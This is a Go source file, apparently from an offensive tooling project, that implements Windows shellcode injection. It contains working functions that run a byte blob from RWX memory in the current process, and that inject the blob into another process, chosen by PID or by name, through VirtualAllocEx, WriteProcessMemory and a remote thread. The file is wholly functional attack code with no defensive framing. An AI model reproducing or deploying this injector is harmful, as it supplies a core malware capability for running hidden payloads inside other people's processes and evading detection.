package inject

import (
	"fmt"
	"unsafe"

	"golang.org/x/sys/windows"
)

// Self allocates RWX memory in the current process, copies blob into
// it, and starts a thread at its base, asynchronously (it does not
// wait for completion), following pkg/sh/sh.go's InjectSelf. Returns
// the address the blob was written to, so a caller that wants to free
// it later (spec.md §5's cleanup-vs-caller-owned distinction) can.
func Self(blob []byte) (uintptr, error) {
	if len(blob) == 0 {
		return 0, fmt.Errorf("inject: empty blob")
	}

	addr, err := windows.VirtualAlloc(0, uintptr(len(blob)), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_EXECUTE_READWRITE)
	if err != nil {
		return 0, fmt.Errorf("inject: VirtualAlloc: %w", err)
	}

	dst := unsafe.Slice((*byte)(unsafe.Pointer(addr)), len(blob))
	copy(dst, blob)

	handle, _, err := createThread(addr)
	if err != nil {
		return addr, fmt.Errorf("inject: CreateThread: %w", err)
	}
	defer windows.CloseHandle(handle)

	return addr, nil
}

// Remote opens targetPID, allocates RWX memory in it, writes blob, and
// starts a remote thread at its base, following pkg/sh/sh.go's
// InjectRemote (there ported from raw NtOpenProcess/NtCreateThreadEx
// syscalls onto the equivalent x/sys/windows wrappers).
func Remote(blob []byte, targetPID uint32) error {
	if len(blob) == 0 {
		return fmt.Errorf("inject: empty blob")
	}

	proc, err := windows.OpenProcess(windows.PROCESS_ALL_ACCESS, false, targetPID)
	if err != nil {
		return fmt.Errorf("inject: OpenProcess(%d): %w", targetPID, err)
	}
	defer windows.CloseHandle(proc)

	addr, err := windows.VirtualAllocEx(proc, 0, uintptr(len(blob)), windows.MEM_COMMIT|windows.MEM_RESERVE, windows.PAGE_EXECUTE_READWRITE)
	if err != nil {
		return fmt.Errorf("inject: VirtualAllocEx: %w", err)
	}

	var written uintptr
	if err := windows.WriteProcessMemory(proc, addr, &blob[0], uintptr(len(blob)), &written); err != nil {
		return fmt.Errorf("inject: WriteProcessMemory: %w", err)
	}
	if written != uintptr(len(blob)) {
		return fmt.Errorf("inject: short write: wrote %d of %d bytes", written, len(blob))
	}

	handle, _, err := createRemoteThread(proc, addr)
	if err != nil {
		return fmt.Errorf("inject: CreateRemoteThread: %w", err)
	}
	defer windows.CloseHandle(handle)

	return nil
}

// RemoteByName resolves targetProcessName to a PID via FindProcessByName
// and delegates to Remote, matching the convenience entry point
// pkg/sh/sh.go's InjectRemote exposed directly by process name.
func RemoteByName(blob []byte, targetProcessName string) error {
	pid, err := FindProcessByName(targetProcessName)
	if err != nil {
		return err
	}
	return Remote(blob, pid)
}
